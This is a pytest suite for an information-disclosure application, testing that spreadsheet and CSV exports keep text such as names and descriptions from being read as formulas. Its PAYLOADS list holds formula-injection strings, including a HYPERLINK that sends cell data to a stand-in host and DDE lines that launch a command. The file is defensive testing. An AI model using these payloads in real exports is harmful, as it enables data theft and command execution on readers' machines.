"""Every spreadsheet we write holds text as text: a name, a paragraph or a file name
that starts with "=", "+", "-", "@", a tab or a carriage return is never a formula
(security audit, item 4). Each export is read back from its bytes."""

from __future__ import annotations

import csv
import shutil
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from gongkai import annualreport as ar
from gongkai.annualreport.writers.xlsx import render_xlsx
from gongkai.cli import main
from gongkai.screening.mask import masked_copy

SEED = Path(__file__).parent / "data/annualreport/samples/2020_xigong-culture-tourism-bureau.txt"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(data: bytes):
    book = load_workbook(BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_text(data: bytes, expected: list[str]) -> None:
    """No cell of the workbook is a formula, and each payload reads back as written."""
    cells = list(_cells(data))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells if isinstance(c.value, str)}
    for text in expected:
        found = [c for c in cells if c.value == text]
        assert found, (text, sorted(values)[:20])
        assert all(c.data_type == "s" and c.quotePrefix for c in found), text


def test_report_workbook_narrative():
    report = ar.read(SEED)
    narrative = dict(report.narrative)
    first = next(iter(narrative))
    narrative[first] = "\n".join(PAYLOADS)
    data = render_xlsx(report.replace(narrative=narrative))
    _assert_text(data, [p.strip() for p in PAYLOADS])


@pytest.mark.parametrize("kind", [".xlsx", ".csv"])
def test_extract(tmp_path, monkeypatch, capsys, kind):
    monkeypatch.chdir(tmp_path)
    names = ["=1+1.txt", "+1.txt", "@SUM(1).txt"]
    for name in names:
        shutil.copy(SEED, tmp_path / name)
    out = tmp_path / f"out{kind}"
    main(["extract", *names, "-o", str(out)])
    capsys.readouterr()
    if kind == ".xlsx":
        _assert_text(out.read_bytes(), names)
    else:
        rows = list(csv.reader(out.read_text("utf-8-sig").splitlines()))
        sources = [r[rows[0].index("source")] for r in rows[1:]]
        assert sorted(sources) == sorted("'" + n for n in names)
        # numbers are not touched (a negative figure stays a number)
        assert all(not v.startswith("'") or v[1:] in names for r in rows[1:] for v in r)


def test_masked_copy_of_a_workbook():
    book = Workbook()
    ws = book.active
    ws["A1"] = "=联系电话 13812345678"
    ws["A1"].data_type = "s"  # text in the agency's file
    ws["A2"] = "=SUM(1,2)"  # a real formula of the agency's file stays one
    out = BytesIO()
    book.save(out)
    data = masked_copy(out.getvalue(), "名单.xlsx")
    cells = {c.coordinate: c for c in _cells(data)}
    assert cells["A1"].data_type == "s" and "13812345678" not in cells["A1"].value
    assert cells["A1"].value.startswith("=联系电话")
    assert cells["A2"].data_type == "f"


@pytest.mark.django_db
def test_ledger_export(world, client_for, monkeypatch):
    from django.utils import timezone

    from gongkai.agencies.models import Membership, Role
    from gongkai.applications import actions
    from tests.support.clock import today_is
    from tests.support.personas import PERSON

    monkeypatch.setattr(timezone, "localdate", today_is(date(2026, 3, 20)))
    Membership.objects.create(user=world.officer, agency=world.agency_a, role=Role.OFFICER)
    for payload in PAYLOADS:
        actions.register(
            world.agency_a,
            acting_user=world.officer,
            channel="counter",
            handed_over_on=date(2026, 3, 2),
            **{**PERSON, "applicant_name": payload[:50], "description": payload},
        )
    response = client_for("officer").get("/staff/applications/export/")
    assert response.status_code == 200
    _assert_text(response.content, [p.strip() for p in PAYLOADS])
    # what the supervisor gets (masked names) is text too
    response = client_for("supervisor").get("/staff/applications/export/")
    assert not [c for c in _cells(response.content) if c.data_type == "f"]


@pytest.mark.django_db
def test_board_export(world, client_for, monkeypatch):
    from django.utils import timezone

    from gongkai.agencies.models import Agency
    from tests.support.clock import today_is

    monkeypatch.setattr(timezone, "localdate", today_is(date(2026, 2, 10)))
    for i, payload in enumerate(PAYLOADS):
        Agency.objects.create(
            name=payload,
            kind=Agency.Kind.TOWNSHIP,
            parent=world.government,
            org_code=f"X-{i}",
            slug=f"x-{i}",
        )
    response = client_for("supervisor").get("/staff/reports/board/export/?year=2025")
    assert response.status_code == 200
    _assert_text(response.content, PAYLOADS)
